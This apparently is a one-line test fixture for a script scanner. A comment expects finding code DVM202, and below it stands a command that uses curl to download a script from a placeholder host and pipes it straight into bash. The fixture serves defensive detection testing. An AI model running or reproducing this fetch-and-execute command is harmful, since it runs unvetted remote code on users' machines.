# expect: DVM202
bash -c "$(< <(curl -s https://x.example.org/a))"
